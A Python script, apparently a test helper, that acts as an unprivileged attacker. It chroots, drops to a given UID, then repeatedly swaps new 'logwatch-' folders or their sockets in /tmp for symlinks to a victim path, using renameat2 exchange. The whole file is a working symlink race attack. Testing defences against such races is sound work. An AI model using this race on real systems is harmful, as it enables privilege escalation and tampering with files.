"""A user who puts links in the way of root: run as `racing.py MODE ROOT VICTIM UID` until killed.

`folder` exchanges a new folder of logwatch in ROOT/tmp with a link to VICTIM; `socket` puts a link
to VICTIM in the place of the socket in it. ROOT becomes the root folder of this process.
"""

import contextlib
import ctypes
import os
import sys
from pathlib import Path

RENAME_EXCHANGE = 2
SYSTEM = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100


def exchange(one: str, other: str) -> bool:
    """Swap two names at once. Source: renameat2(2), RENAME_EXCHANGE."""
    names = os.fsencode(one), os.fsencode(other)
    return SYSTEM.renameat2(AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE) == 0


def take_folder(name: str, victim: str, number: int) -> bool:
    """Put a link where the folder was."""
    aside = f"/aside/{number}"
    Path(aside).symlink_to(victim)
    return exchange(f"/tmp/{name}", aside)


def take_socket(name: str, victim: str, number: int) -> bool:
    """Put a link where the socket was, for as long as the folder is there."""
    aside = f"/aside/{number}"
    Path(aside).symlink_to(victim)
    while os.path.lexists(f"/tmp/{name}"):
        if exchange(f"/tmp/{name}/socket", aside):
            return True
    return False


def race(mode: str, victim: str) -> None:
    """Attack each new folder once, and forget the links of those before."""
    take = take_folder if mode == "folder" else take_socket
    last, number = "", 0
    while True:
        with os.scandir("/tmp") as entries:
            names = [entry.name for entry in entries if entry.name.startswith("logwatch-")]
        for name in names:
            if name != last:
                number += 1
                take(name, victim, number)
                with contextlib.suppress(OSError):
                    Path(f"/tmp/{last or '-'}").unlink()
                last = name


if __name__ == "__main__":
    mode, root, victim, uid = sys.argv[1:]
    os.chroot(root)
    os.chdir("/")
    os.setgroups([])
    os.setresgid(int(uid), int(uid), int(uid))
    os.setresuid(int(uid), int(uid), int(uid))
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    race(mode, victim)
